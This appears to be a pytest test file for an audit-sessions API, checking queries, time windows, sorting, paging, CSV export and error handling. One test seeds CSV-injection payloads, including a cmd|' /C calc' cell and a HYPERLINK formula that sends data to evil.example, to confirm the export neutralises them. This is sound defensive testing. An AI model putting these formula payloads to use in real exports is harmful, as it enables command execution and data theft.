"""GET /api/audit/sessions and /api/audit/sessions/<id> (API.md section 4): the audit view, q over
its dotted fields, the time window, content, fields, sort, paging links, CSV export and errors."""
import csv
import io
import urllib.parse

import pytest

from conftest import assert_error

VIEW_KEYS = {"active", "protocol", "start_time", "end_time", "duration", "verdict", "client",
             "target", "user", "account", "server", "safe", "listener", "recording", "psm",
             "alerts", "events", "content"}


@pytest.fixture(scope="module")
def data(shared_server):
    """Nine sessions, two users and a server, with known attributes (in creation order)."""
    admin = shared_server.login()
    root = admin.create("user", name="root", role="user", password="root-password",
                        organization="ops")
    alice = admin.create("user", name="alice", role="user", password="alice-password")
    db = admin.create("server", name="db1", address="db1.example.com")
    rows = [
        # protocol, started, finished, user, source ip, source port
        ("ssh", "2017-01-01T10:00:00Z", "2017-01-01T11:00:00Z", root, "10.0.0.1", 40001),
        ("ssh", "2017-01-02T10:00:00Z", "2017-01-02T10:30:00Z", alice, "10.0.0.2", 40002),
        ("rdp", "2017-01-03T10:00:00Z", "2017-01-05T10:00:00Z", root, "10.0.1.3", 40003),
        ("rdp", "2017-01-04T10:00:00Z", "2017-01-04T12:00:00Z", alice, "192.168.0.4", 40004),
        ("ssh", "2017-01-05T10:00:00Z", "2017-01-05T10:05:00Z", root, "10.0.0.5", 40005),
        ("vnc", "2017-01-06T10:00:00Z", "2017-01-06T10:10:00Z", None, "10.0.0.6", None),
        ("ssh", "2017-01-07T10:00:00Z", "2017-01-07T10:20:00Z", root, "10.0.0.7", 40007),
        ("http", "2017-01-08T10:00:00Z", "2017-01-08T10:01:00Z", alice, "10.0.2.8", 40008),
        ("ssh", "2017-01-09T10:00:00Z", None, root, "10.0.0.9", 40009),  # still active
    ]
    sids = []
    for protocol, started, finished, user, ip, port in rows:
        attrs = {"protocol": protocol, "started_at": started, "source_ip": ip,
                 "destination_ip": "10.9.9.9", "destination_port": 22, "server_id": db,
                 "status": "approved", "indexed": 2, "dump_mode": "all", "size": 1000}
        if finished:
            attrs["finished_at"] = finished
        if user:
            attrs["user_id"] = user
        if port:
            attrs["source_port"] = port
        sids.append(admin.create("session", **attrs))
    r = admin.post(f"/api/v2/session/{sids[2]}/content",
                   json=[{"type": "command", "text": "sudo su -", "start_time": "2017-01-03T10:01Z"}])
    assert r.status_code == 200, r.text
    r = admin.post(f"/api/v2/session/{sids[6]}/content",
                   json=[{"type": "screen", "text": "sudo vi /etc/shadow",
                          "start_time": "2017-01-07T10:01Z"}])
    assert r.status_code == 200, r.text
    return {"admin": admin, "sids": sids, "root": root, "alice": alice, "db": db}


def search(client, **params):
    r = client.get("/api/audit/sessions", params=params)
    assert r.status_code == 200, r.text
    return r.json()


def keys(body):
    return [i["key"] for i in body["items"]]


def test_the_audit_view_of_a_session(data):
    admin, sids = data["admin"], data["sids"]
    r = admin.get(f"/api/audit/sessions/{sids[0]}")
    assert r.status_code == 200, r.text
    body = r.json()
    assert body["key"] == sids[0]
    assert body["meta"] == {"href": f"/api/audit/sessions/{sids[0]}",
                            "parent": "/api/audit/sessions", "remaining_seconds": 600}
    view = body["body"]
    assert set(view) == VIEW_KEYS
    assert view["active"] is False
    assert view["protocol"] == "ssh"
    assert view["start_time"] == "2017-01-01T10:00:00.000000Z"
    assert view["end_time"] == "2017-01-01T11:00:00.000000Z"
    assert view["duration"] == 3600
    assert view["verdict"] == "ACCEPT"
    assert view["client"] == {"ip": "10.0.0.1", "port": 40001}
    assert view["target"] == {"ip": "10.9.9.9", "port": 22}
    assert view["user"] == {"id": data["root"], "name": "root", "organization": "ops"}
    assert view["server"] == {"id": data["db"], "name": "db1", "address": "db1.example.com"}
    assert view["account"] == {"id": None, "name": None}
    assert view["recording"] == {"index_status": "INDEXED", "dump_mode": "all", "size": 1000}
    assert isinstance(view["psm"]["content_reference_id"], int)
    for what in ("alerts", "events", "content"):
        assert view[what] == {"href": f"/api/audit/sessions/{sids[0]}/{what}"}


def test_an_active_session_has_no_end_and_lasts_to_now(data):
    admin, sids = data["admin"], data["sids"]
    view = admin.get(f"/api/audit/sessions/{sids[8]}").json()["body"]
    assert view["active"] is True
    assert view["end_time"] is None
    assert view["duration"] > 3600 * 24 * 365


def test_the_trail_number_is_the_content_hits_trail_id(data):
    admin, sids = data["admin"], data["sids"]
    view = admin.get(f"/api/audit/sessions/{sids[2]}").json()["body"]
    hits = admin.get(f"/api/audit/sessions/{sids[2]}/content", params={"q": "sudo"}).json()
    assert hits["items"][0]["trail_id"] == str(view["psm"]["content_reference_id"])


def test_unknown_and_removed_sessions_are_not_found(shared_server, data):
    admin = data["admin"]
    assert_error(admin.get("/api/audit/sessions/12345"), 404, "NotFound")
    assert_error(admin.get("/api/audit/sessions/abc"), 404, "NotFound")
    sid = admin.create("session", protocol="ssh", started_at="2001-01-01")
    assert admin.delete(f"/api/v2/session/{sid}").status_code == 200
    assert_error(admin.get(f"/api/audit/sessions/{sid}"), 404, "NotFound")
    assert sid not in keys(search(admin, end="2001-12-31"))


def test_default_listing_newest_first_with_meta(data):
    admin, sids = data["admin"], data["sids"]
    body = search(admin, end="2017-12-31")
    assert keys(body) == list(reversed(sids))
    assert body["items"][0] == {"key": sids[8],
                                "meta": {"href": f"/api/audit/sessions/{sids[8]}"}}
    meta = body["meta"]
    assert meta["href"] == "/api/audit/sessions" and meta["parent"] == "/api/audit"
    assert meta["remaining_seconds"] == 600
    assert (meta["match_count"], meta["limit"], meta["offset"], meta["fields"]) == (9, 500, 0, [])
    assert meta["next"] is None and meta["previous"] is None
    assert meta["first"] == meta["last"] == "/api/audit/sessions?end=2017-12-31&limit=500&offset=0"


def test_paging_links(data):
    admin, sids = data["admin"], data["sids"]
    newest = list(reversed(sids))
    body = search(admin, end="2017-12-31", limit=4, offset=4)
    assert keys(body) == newest[4:8]
    meta = body["meta"]
    assert meta["match_count"] == 9
    base = "/api/audit/sessions?end=2017-12-31&limit=4"
    assert meta["first"] == base + "&offset=0"
    assert meta["previous"] == base + "&offset=0"
    assert meta["next"] == base + "&offset=8"
    assert meta["last"] == base + "&offset=8"
    # Every link is a working request.
    nxt = admin.get(meta["next"]).json()
    assert keys(nxt) == newest[8:]
    assert nxt["meta"]["next"] is None
    assert keys(search(admin, end="2017-12-31", offset=20)) == []


def test_links_keep_the_query_encoded(data):
    admin = data["admin"]
    meta = search(admin, q="user.name:root AND protocol:ssh", limit=2)["meta"]
    link = urllib.parse.urlsplit(meta["next"])
    assert link.path == "/api/audit/sessions"
    params = urllib.parse.parse_qs(link.query)
    assert params == {"q": ["user.name:root AND protocol:ssh"], "limit": ["2"], "offset": ["2"]}


@pytest.mark.parametrize("q,indexes", [
    ("user.name:root", [0, 2, 4, 6, 8]),
    ("user.name:root AND client.ip:10.0.0.*", [0, 4, 6, 8]),
    ("protocol:rdp OR protocol:vnc", [2, 3, 5]),
    ("start_time:>=2017-01-07", [6, 7, 8]),
    ("start_time:[2017-01-02 TO 2017-01-03]", [1, 2]),
    ("client.port:[40002 TO 40004]", [1, 2, 3]),
    ("client.ip:[10.0.0.0 TO 10.0.255.255] AND NOT user.name:root", [1, 5, 7]),
    ("active:true", [8]),
    ("duration:>=7200", [2, 3, 8]),
    ("_exists_:client.port AND NOT _exists_:user.id", []),
    ("NOT _exists_:user.name", [5]),
    ("user.organization:ops AND verdict:accept", [0, 2, 4, 6, 8]),
    ("server.name:db1 AND recording.index_status:INDEXED AND protocol:http", [7]),
])
def test_q_over_the_views_fields(data, q, indexes):
    admin, sids = data["admin"], data["sids"]
    got = keys(search(admin, q=q, end="2017-12-31", sort="start_time"))
    assert got == [sids[i] for i in indexes]


def test_q_on_trail_numbers(data):
    admin, sids = data["admin"], data["sids"]
    trails = {k: admin.get(f"/api/audit/sessions/{k}").json()["body"]["psm"]["content_reference_id"]
              for k in sids}
    low, high = trails[sids[2]], trails[sids[5]]
    got = keys(search(admin, q=f"psm.content_reference_id:[{low} TO {high}]", sort="start_time"))
    assert got == sids[2:6]


@pytest.mark.parametrize("start,end,indexes", [
    # both ends inclusive: a session ending at the window's start is in, one starting at its end too
    ("2017-01-01T11:00:00Z", "2017-01-02T10:00:00Z", [0, 1]),
    ("2017-01-01T11:00:01Z", "2017-01-02T09:59:59Z", []),
    # a date alone is midnight UTC; the rdp session of the 3rd runs to the 5th
    ("2017-01-04", "2017-01-05", [2, 3]),
    ("2017-01-05", "2017-01-05T10:00Z", [2, 4]),
    # the active session spans to now
    ("2017-06-01", None, [8]),
    (None, "2017-01-01T10:00:00Z", [0]),
])
def test_time_window(data, start, end, indexes):
    admin, sids = data["admin"], data["sids"]
    params = {"sort": "start_time"}
    if start:
        params["start"] = start
    if end:
        params["end"] = end
    assert keys(search(admin, **params)) == [sids[i] for i in indexes]


def test_content_selects_sessions(data):
    admin, sids = data["admin"], data["sids"]
    assert keys(search(admin, content="sudo", sort="start_time")) == [sids[2], sids[6]]
    assert keys(search(admin, content='"/etc/shadow"')) == [sids[6]]
    assert keys(search(admin, content="sudo", q="protocol:rdp")) == [sids[2]]
    assert keys(search(admin, content="sudo", end="2017-01-04")) == [sids[2]]
    assert keys(search(admin, content="nothing-like-this")) == []


def test_sort(data):
    admin, sids = data["admin"], data["sids"]
    got = keys(search(admin, sort="protocol,-start_time", end="2017-12-31"))
    assert got == [sids[7], sids[3], sids[2], sids[8], sids[6], sids[4], sids[1], sids[0], sids[5]]
    # unset values last in both directions
    got = keys(search(admin, sort="-client.port", end="2017-12-31"))
    assert got == [sids[i] for i in (8, 7, 6, 4, 3, 2, 1, 0, 5)]
    got = keys(search(admin, sort="+client.port", end="2017-12-31"))
    assert got == [sids[i] for i in (0, 1, 2, 3, 4, 6, 7, 8, 5)]


def test_fields_give_items_a_body(data):
    admin, sids = data["admin"], data["sids"]
    body = search(admin, fields="user.name,protocol,start_time", q="client.ip:10.0.0.1")
    assert body["items"] == [{"key": sids[0], "meta": {"href": f"/api/audit/sessions/{sids[0]}"},
                              "body": {"user": {"name": "root"}, "protocol": "ssh",
                                       "start_time": "2017-01-01T10:00:00.000000Z"}}]
    assert body["meta"]["fields"] == ["user.name", "protocol", "start_time"]
    # a group names all its fields
    body = search(admin, fields="client", q="client.ip:10.0.0.1")
    assert body["items"][0]["body"] == {"client": {"ip": "10.0.0.1", "port": 40001}}
    assert body["meta"]["fields"] == ["client.ip", "client.port"]


def test_csv_export(data):
    admin, sids = data["admin"], data["sids"]
    r = admin.get("/api/audit/sessions", params={"format": "csv", "end": "2017-12-31",
                                                 "fields": "protocol,user.name,client.port,end_time",
                                                 "sort": "start_time"})
    assert r.status_code == 200, r.text
    assert r.headers["Content-Type"].startswith("text/csv")
    assert r.headers.get("Transfer-Encoding") == "chunked"
    rows = list(csv.reader(io.StringIO(r.text)))
    assert rows[0] == ["key", "protocol", "user.name", "client.port", "end_time"]
    assert rows[1] == [sids[0], "ssh", "root", "40001", "2017-01-01T11:00:00.000000Z"]
    assert rows[6] == [sids[5], "vnc", "", "", "2017-01-06T10:10:00.000000Z"]
    assert rows[9] == [sids[8], "ssh", "root", "40009", ""]
    assert [row[0] for row in rows[1:]] == sids


def test_csv_without_fields_has_every_field(data):
    admin, sids = data["admin"], data["sids"]
    r = admin.get("/api/audit/sessions", params={"format": "csv", "q": "client.ip:10.0.0.1"})
    assert r.status_code == 200, r.text
    rows = list(csv.DictReader(io.StringIO(r.text)))
    assert len(rows) == 1
    row = rows[0]
    assert row["key"] == sids[0]
    assert row["user.organization"] == "ops"
    assert row["server.address"] == "db1.example.com"
    assert row["active"] == "false"
    assert row["alerts.href"] == f"/api/audit/sessions/{sids[0]}/alerts"


def test_csv_holds_every_session_whatever_the_count(server):
    admin = server.login()
    organization = 'Ops, "EU"\nnight shift'  # a separator, quotes and a line break
    user = admin.create("user", name="root", role="user", password="root-password",
                        organization=organization)
    requests = [{"id": f"r{i}", "method": "POST", "endpoint": "/session",
                 "data": {"protocol": "ssh", "started_at": f"2020-01-01T00:{i // 60:02d}:{i % 60:02d}Z",
                          "user_id": user}}
                for i in range(1200)]
    for part in (requests[:600], requests[600:]):  # a batch holds at most 1,000 requests
        r = admin.post("/api/v2/batch", json={"requests": part})
        assert r.status_code == 200, r.text
    r = admin.get("/api/audit/sessions",
                  params={"format": "csv", "fields": "start_time,user.organization"})
    assert r.status_code == 200
    assert r.headers.get("Transfer-Encoding") == "chunked"
    rows = list(csv.reader(io.StringIO(r.text)))
    assert len(rows) == 1201
    assert rows[1][1:] == ["2020-01-01T00:19:59.000000Z", organization]  # newest first
    assert rows[-1][1:] == ["2020-01-01T00:00:00.000000Z", organization]
    # The JSON listing stops at 500 a page.
    body = search(admin, limit=500)
    assert len(body["items"]) == 500 and body["meta"]["match_count"] == 1200
    # A limit still applies to an export.
    r = admin.get("/api/audit/sessions", params={"format": "csv", "limit": 3, "offset": 1})
    assert len(list(csv.reader(io.StringIO(r.text)))) == 4


FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"]


def test_csv_cells_that_a_spreadsheet_would_run_are_text(server):
    """CSV injection (OWASP): a text cell starting with = + - @, a tab or a carriage return gets a
    leading ' and quotes; numbers are written as they are."""
    admin = server.login()
    expected = {}
    for i, first in enumerate(FORMULA_STARTS):
        user_name = f"{first}cmd|' /C calc'!A{i}"
        server_name = f'{first}HYPERLINK("http://evil.example/?x="&A1,"ok{i}")'
        organization = f"{first}{i}+{i}"  # looks like a number, is text
        user = admin.create("user", name=user_name, role="user", password="user-password",
                            organization=organization)
        srv = admin.create("server", name=server_name, address=f"{first}10.0.0.{i}")
        sid = admin.create("session", protocol="ssh", started_at=f"2030-01-01T00:00:0{i}Z",
                           finished_at=f"2030-01-01T00:01:0{i}Z", user_id=user, server_id=srv,
                           source_port=40000 + i)
        expected[sid] = ["'" + user_name, "'" + organization, "'" + server_name,
                         f"'{first}10.0.0.{i}", str(40000 + i), "60"]
    r = admin.get("/api/audit/sessions",
                  params={"format": "csv", "sort": "start_time",
                          "fields": "user.name,user.organization,server.name,server.address,"
                                    "client.port,duration"})
    assert r.status_code == 200, r.text
    rows = list(csv.reader(io.StringIO(r.text, newline="")))
    assert rows[0] == ["key", "user.name", "user.organization", "server.name", "server.address",
                       "client.port", "duration"]
    assert {row[0]: row[1:] for row in rows[1:]} == expected
    # On the wire every neutralised cell is quoted, so that the ' is part of the text, and no
    # cell of a row begins with one of the characters.
    for line in r.content.decode().split("\r\n")[1:-1]:
        assert ",\"'" in line
        for first in FORMULA_STARTS:
            assert "," + first not in line, repr(line)
    # Ordinary cells stay as they were: unquoted, without a prefix.
    plain = admin.create("user", name="root", role="user", password="user-password")
    sid = admin.create("session", protocol="ssh", started_at="2031-01-01T00:00:00Z",
                       user_id=plain, source_port=22)
    r = admin.get("/api/audit/sessions", params={"format": "csv", "fields": "user.name,client.port",
                                                 "q": "user.name:root"})
    assert r.text == f"key,user.name,client.port\r\n{sid},root,22\r\n"


def test_roles(shared_server, data):
    admin = data["admin"]
    operator = shared_server.add_user(admin, "auditor", "operator")
    recorder = shared_server.add_user(admin, "recorder", "service")
    assert operator.get("/api/audit/sessions").status_code == 200
    assert operator.get(f"/api/audit/sessions/{data['sids'][0]}").status_code == 200
    assert_error(recorder.get("/api/audit/sessions"), 403, "Forbidden")
    assert_error(recorder.get(f"/api/audit/sessions/{data['sids'][0]}"), 403, "Forbidden")
    assert_error(shared_server.anonymous().get("/api/audit/sessions"), 401, "Unauthenticated")


def test_wrong_method(data):
    r = data["admin"].post("/api/audit/sessions/stats", json={})
    assert_error(r, 405, "MethodNotAllowed")
    assert r.headers["Allow"] == "GET"


@pytest.mark.parametrize("params,error_type,field", [
    ({"q": "user.name:(root"}, "InvalidQueryValue", "q"),
    ({"q": "*root"}, "InvalidQueryValue", "q"),
    ({"q": "user_name:root"}, "InvalidArgument", "user_name"),
    ({"q": "root"}, "InvalidArgument", "q"),
    ({"q": "start_time:>=yesterday"}, "InvalidQueryValue", "start_time"),
    ({"q": "client.port:high"}, "InvalidQueryValue", "client.port"),
    ({"content": "sudo AND ("}, "InvalidQueryValue", "content"),
    ({"fields": "user.nam"}, "InvalidArgument", "fields"),
    ({"sort": "-nothing"}, "InvalidArgument", "sort"),
    ({"sort": "user"}, "InvalidArgument", "sort"),
    ({"limit": "501"}, "InvalidArgument", "limit"),
    ({"limit": "0"}, "InvalidArgument", "limit"),
    ({"offset": "10001"}, "InvalidArgument", "offset"),
    ({"format": "xml"}, "InvalidArgument", "format"),
    ({"start": "2017-13-01"}, "InvalidQueryValue", "start"),
    ({"end": "soon"}, "InvalidQueryValue", "end"),
    ({"start": "2017-01-02", "end": "2017-01-01"}, "InvalidArgument", "end"),
    ({"filter": "protocol:ssh"}, "InvalidArgument", "filter"),
])
def test_errors(data, params, error_type, field):
    r = data["admin"].get("/api/audit/sessions", params=params)
    error = assert_error(r, 400, error_type)
    assert error["details"]["field"] == field
    if error_type == "InvalidQueryValue" and field in ("q", "content"):
        assert isinstance(error["details"]["position"], int)
    assert r.json()["meta"]["href"] == "/api/audit/sessions"
    assert r.json()["meta"]["remaining_seconds"] == 600


def test_one_session_takes_no_parameters(data):
    r = data["admin"].get(f"/api/audit/sessions/{data['sids'][0]}", params={"fields": "protocol"})
    assert_error(r, 400, "InvalidArgument")


def test_hits_count_is_the_number_of_matching_records(server):
    admin = server.login()
    first = admin.create("session", protocol="ssh", started_at="2017-01-01T10:00:00Z")
    second = admin.create("session", protocol="rdp", started_at="2017-01-02T10:00:00Z")
    for sid, texts in ((first, ["sudo id", "ls", "sudo su -", "sudo -l"]), (second, ["sudo -i"])):
        r = admin.post(f"/api/v2/session/{sid}/content",
                       json=[{"type": "command", "text": t, "start_time": "2017-01-02T10:01Z"}
                             for t in texts])
        assert r.status_code == 200, r.text
    body = search(admin, content="sudo", fields="hits_count,protocol", sort="start_time")
    assert [(i["key"], i["body"]) for i in body["items"]] == [
        (first, {"protocol": "ssh", "hits_count": 3}), (second, {"protocol": "rdp", "hits_count": 1})]
    assert body["meta"]["fields"] == ["protocol", "hits_count"]
    assert [i["body"] for i in search(admin, content='"sudo su"', fields="hits_count")["items"]] \
        == [{"hits_count": 1}]
    r = admin.get("/api/audit/sessions", params={"content": "sudo", "fields": "hits_count",
                                                 "sort": "start_time", "format": "csv"})
    assert r.status_code == 200, r.text
    assert list(csv.reader(io.StringIO(r.text))) == [["key", "hits_count"], [first, "3"],
                                                     [second, "1"]]
    error = assert_error(admin.get("/api/audit/sessions", params={"fields": "hits_count"}), 400,
                         "InvalidArgument")
    assert error["details"]["field"] == "fields"
